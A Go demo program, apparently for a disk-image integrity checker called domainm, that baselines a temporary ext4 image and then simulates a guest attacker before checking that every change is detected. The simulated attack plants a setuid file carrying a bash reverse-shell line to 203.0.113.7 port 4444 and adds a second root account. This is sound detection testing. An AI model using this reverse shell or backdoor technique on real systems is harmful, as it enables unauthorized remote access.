package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// runDisk is part 2 of the demo: a file-integrity baseline of a disk image, changes made
// to the image from outside (as an attacker inside the guest would make them), and
// `domainm check` reporting them with YARA over the new files.
func runDisk(ctx context.Context, domainm, rules string) error {
	tmp, err := os.MkdirTemp("", "domainm-demo-disk-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(tmp)
	tree := filepath.Join(tmp, "root")
	files := map[string]string{
		"etc/passwd":         "root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/var/www:/usr/sbin/nologin\n",
		"etc/hostname":       "web-1\n",
		"etc/crontab":        "17 * * * * root cd / && run-parts /etc/cron.hourly\n",
		"var/www/index.html": "<html>hello</html>\n",
	}
	for p, body := range files {
		full := filepath.Join(tree, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			return err
		}
	}
	ls, err := os.ReadFile("/bin/ls")
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Join(tree, "usr/bin"), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(tree, "usr/bin/ls"), ls, 0o755); err != nil {
		return err
	}
	img := filepath.Join(tmp, "target-disk.img")
	db := filepath.Join(tmp, "baseline.db")
	if out, err := exec.CommandContext(ctx, "mkfs.ext4", "-q", "-F", "-d", tree, img, "32M").CombinedOutput(); err != nil {
		return fmt.Errorf("mkfs.ext4: %v: %s", err, out)
	}

	fmt.Printf("\n== part 2: the target's disk image %s (ext4, read without mounting)\n", filepath.Base(img))
	if _, err := show(ctx, domainm, "baseline", "--image", img, "--format", "raw", "--db", db, "--quiet"); err != nil {
		return err
	}

	// The attacker: a setuid copy of a shell-like binary with a reverse shell in it, a
	// second uid-0 account, and a cron job. debugfs edits the image as the guest would.
	backdoor := filepath.Join(tmp, "backdoor")
	payload := append(append([]byte{}, ls...), "\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"...)
	if err := os.WriteFile(backdoor, payload, 0o755); err != nil {
		return err
	}
	passwd := filepath.Join(tmp, "passwd")
	os.WriteFile(passwd, []byte(files["etc/passwd"]+"toor:x:0:0::/root:/bin/sh\n"), 0o644)
	cmds := strings.Join([]string{
		"write " + backdoor + " /usr/bin/.sshd-helper",
		"set_inode_field /usr/bin/.sshd-helper mode 0104755",
		"rm /etc/passwd",
		"write " + passwd + " /etc/passwd",
	}, "\n")
	fmt.Println("== an attacker inside the guest adds a setuid backdoor and a second root account")
	dbg := exec.CommandContext(ctx, "debugfs", "-w", "-f", "-", img)
	dbg.Stdin = strings.NewReader(cmds + "\n")
	if out, err := dbg.CombinedOutput(); err != nil {
		return fmt.Errorf("debugfs: %v: %s", err, out)
	}

	code, err := show(ctx, domainm, "check", "--image", img, "--db", db, "--rules", rules, "--quiet")
	if err != nil {
		return err
	}
	if code != 1 {
		return fmt.Errorf("expected the changes to be reported (exit 1), got exit %d", code)
	}
	fmt.Println("== part 2 passed: every change was reported, and the backdoor matched a YARA rule")
	return nil
}

// show runs domainm with args, printing the command and its output; it returns the exit code.
func show(ctx context.Context, domainm string, args ...string) (int, error) {
	fmt.Printf("\n$ %s %s\n", domainm, strings.Join(args, " "))
	cmd := exec.CommandContext(ctx, domainm, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() <= 2 {
		return ee.ExitCode(), nil
	}
	if err != nil {
		return 0, fmt.Errorf("%s %s: %w", domainm, args[0], err)
	}
	return 0, nil
}
